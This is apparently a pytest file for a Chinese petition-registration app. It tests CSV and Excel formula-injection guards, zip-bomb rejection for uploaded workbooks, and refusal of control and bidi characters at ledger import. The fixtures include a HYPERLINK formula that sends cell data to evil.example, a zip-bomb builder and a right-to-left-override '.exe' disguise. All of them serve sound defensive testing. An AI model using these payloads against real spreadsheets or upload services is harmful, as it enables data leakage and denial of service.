"""Issue 13, item 6 (files): text we write to a spreadsheet is never a formula; a workbook is
measured before it is opened; control and bidi characters are refused at ledger import."""

import io
import zipfile
from pathlib import Path

import pytest
from django.test import override_settings
from openpyxl import load_workbook

from tests.conftest import District
from tests.ledger_rows import row, write_csv, write_xlsx
from xinfang.analytics.workbook import write_tables
from xinfang.core.errors import InputError
from xinfang.core.permissions import SYSTEM
from xinfang.core.spreadsheets import check_xlsx, guard_formula, unguard_formula
from xinfang.intake.ledger.importer import LedgerRejectedError, ledger_import
from xinfang.intake.ledger.readers import open_table
from xinfang.intake.models import Registration

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'


class _Table:
    def __init__(self) -> None:
        self.title = "内容分类"
        self.header = ["分类", "件数"]
        self.rows = [[EVIL, 3], ["+1+2", 1], ["@SUM(A1)", 2]]
        self.note = "=1+1"


def test_the_analytics_workbook_writes_a_formula_named_category_as_text(tmp_path: Path) -> None:
    path = tmp_path / "report.xlsx"
    write_tables(path, "=示范区 2026年", [_Table()])
    sheet = load_workbook(path).worksheets[0]
    cells = {c.coordinate: c for r in sheet.iter_rows() for c in r if c.value is not None}
    assert cells["A3"].value == EVIL and cells["A3"].data_type == "s"
    assert cells["A1"].data_type == "s"  # the caption
    assert cells["B3"].value == 3 and cells["B3"].data_type == "n"  # numbers stay numbers
    assert not [c for c in cells.values() if c.data_type == "f"]


def test_csv_guard_round_trips() -> None:
    for cell in ("=1+1", "+86 138", "-某", "@x", "\tx", "\rx", "'=x", "普通"):
        assert unguard_formula(guard_formula(cell)) == cell
    assert guard_formula("=1+1") == "'=1+1"
    assert guard_formula("普通") == "普通"


def _bomb(path: Path, inflated: int) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/worksheets/sheet1.xml", b"\0" * inflated)
    return path


def test_a_workbook_that_inflates_too_much_is_refused_before_it_is_opened(tmp_path: Path) -> None:
    path = _bomb(tmp_path / "bomb.xlsx", 40 * 1024 * 1024)  # 40 MB of zeros: about 40 KB zipped
    assert path.stat().st_size < 200 * 1024
    with pytest.raises(InputError) as caught, open_table(path):
        pass
    assert "压缩比异常" in str(caught.value) and "bomb.xlsx" in str(caught.value)


@override_settings(XINFANG={"XLSX_MAX_UNCOMPRESSED_BYTES": 4096, "XLSX_MAX_RATIO": 100})
def test_a_workbook_over_the_total_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "big.xlsx"
    write_tables(path, "示范区", [_Table()])
    with pytest.raises(InputError) as caught:
        check_xlsx(path)
    assert "超过上限" in str(caught.value)
    stream = io.BytesIO(path.read_bytes())
    with pytest.raises(InputError):
        check_xlsx(stream, "上传.xlsx")
    assert stream.tell() == 0  # left ready for the reader


def test_an_ordinary_workbook_opens(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "ok.xlsx", [row(登记编号="DJ1")])
    check_xlsx(path)
    with open_table(path) as (header, rows):
        assert header[0] == "登记编号"
        assert len(list(rows)) == 1


@pytest.mark.django_db
def test_control_and_bidi_characters_are_refused_at_ledger_import(
    district: District, tmp_path: Path
) -> None:
    rows = [
        row(登记编号="DJ1", 反映内容="小区物业\u202egnp.exe问题"),
        row(登记编号="DJ2", 信访人="王\x00小明"),
        row(登记编号="DJ3", 备注="隔离\u2066符"),
        row(登记编号="DJ4", 反映内容="第一行\n第二行\t缩进"),  # newlines and tabs are text
        row(登记编号="DJ5", 反映内容="拆\u200b迁补偿"),  # a search for 拆迁 would miss it
        row(登记编号="DJ6", 信访人="李\u200f四"),
    ]
    with pytest.raises(LedgerRejectedError) as caught:
        ledger_import(actor=SYSTEM, path=write_csv(tmp_path / "bad.csv", rows))
    problems = [str(p) for p in caught.value.problems]
    assert problems == [
        "第2行 反映内容：含有不可见的文字方向控制字符（U+202E），请删除后重新导入",
        "第3行 信访人：含有不可见的控制字符（U+0000），请删除后重新导入",
        "第4行 备注：含有不可见的文字方向控制字符（U+2066），请删除后重新导入",
        "第6行 反映内容：含有不可见的零宽字符（U+200B），请删除后重新导入",
        "第7行 信访人：含有不可见的文字方向控制字符（U+200F），请删除后重新导入",
    ]
    assert not Registration.objects.exists()
    summary = ledger_import(actor=SYSTEM, path=tmp_path / "bad.csv", partial=True)
    assert summary.created == 1
    assert Registration.objects.get().content == "第一行\n第二行\t缩进"
